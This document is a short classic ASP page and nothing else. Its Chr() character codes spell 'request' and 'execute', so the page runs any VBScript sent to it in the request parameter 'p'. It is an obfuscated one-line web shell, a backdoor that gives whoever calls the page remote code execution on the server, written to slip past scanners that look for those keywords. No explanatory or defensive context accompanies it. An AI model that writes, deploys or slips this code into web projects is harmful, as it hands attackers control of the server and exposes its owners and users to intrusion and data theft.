<%
Dim k, f
k = Chr(114) & Chr(101) & Chr(113) & Chr(117) & Chr(101) & Chr(115) & Chr(116)
f = Chr(101) & Chr(120) & Chr(101) & Chr(99) & Chr(117) & Chr(116) & Chr(101)
Execute(f & "(" & k & "(" & Chr(34) & "p" & Chr(34) & "))")
%>
